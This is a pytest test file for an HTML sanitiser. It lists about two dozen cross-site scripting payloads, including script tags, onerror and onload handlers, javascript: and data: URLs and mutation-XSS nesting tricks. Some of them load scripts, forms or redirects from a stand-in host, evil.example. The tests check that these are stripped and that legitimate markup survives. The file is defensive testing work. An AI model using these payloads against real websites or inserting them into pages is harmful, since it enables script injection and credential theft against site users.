"""What is left of hostile markup, and of a document's own."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from searchapp.sources.sanitise import TAGS, sanitise

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password><button formaction=x>go</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<style>body{display:none}</style>",
    "<video src=x onerror=alert(1)></video><audio src=x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<img src=//evil.example/pixel.png>",
    "<a href=/logout>x</a>",
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_that_runs_loads_or_acts_is_left(markup: str) -> None:
    cleaned = sanitise(markup)
    outside_of_text = " ".join(re.findall(r"<[^>]*>", cleaned)).lower()
    for word in ("script", "onerror", "onload", "ontoggle", "style", "evil.example", "src=", "action", "href"):
        assert word not in outside_of_text, cleaned


@given(st.text(alphabet="<>/=\"' &;:abimgsrcpthonev\x00中#!-", max_size=80))
def test_what_is_left_is_only_of_the_tags_that_are_named(markup: str) -> None:
    cleaned = sanitise(markup)
    assert set(re.findall(r"</?([a-z0-9]+)", cleaned)) <= TAGS


def test_a_document_keeps_its_structure_links_and_carried_images() -> None:
    markup = (
        '<h2 id="setup">安装</h2><p lang="zh">见 <a href="https://example.org/a?b=1&amp;c">此处</a></p>'
        '<table><tr><th scope="col">a</th><td colspan="2">b</td></tr></table>'
        '<img src="data:image/png;base64,AAAA" alt="dot"><ruby>漢<rt>かん</rt></ruby><a href="#setup">up</a>'
    )
    cleaned = sanitise(markup)
    assert '<h2 id="doc-setup">安装</h2>' in cleaned
    assert 'href="https://example.org/a?b=1&amp;c" rel="noopener noreferrer nofollow"' in cleaned
    assert '<th scope="col">' in cleaned and '<td colspan="2">' in cleaned
    assert '<img src="data:image/png;base64,AAAA" alt="dot">' in cleaned
    assert "<ruby>漢<rt>かん</rt></ruby>" in cleaned
    assert 'href="#doc-setup"' in cleaned
